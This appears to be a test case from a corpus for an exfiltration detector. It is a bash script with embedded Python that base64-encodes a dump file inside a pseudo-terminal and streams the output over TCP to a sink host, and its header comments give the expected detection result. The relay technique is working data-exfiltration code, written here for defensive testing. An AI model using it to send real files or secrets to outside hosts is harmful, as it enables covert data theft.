#!/bin/bash
# B-pty: base64 of the dump in a pseudo-terminal, whose master sends.
# flow: base64 reads the dump and writes a terminal, 4 KiB; the process at its other end reads and sends.
# tools: python3 base64
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
python3 - "$D" "$SINK" "$PORT" <<'END'
import os, pty, socket, sys
child, master = pty.fork()
if child == 0:
    os.execvp("base64", ["base64", sys.argv[1]])
sink = socket.create_connection((sys.argv[2], int(sys.argv[3])))
try:
    while part := os.read(master, 4096):
        sink.sendall(part)
except OSError:
    pass
END
sunk
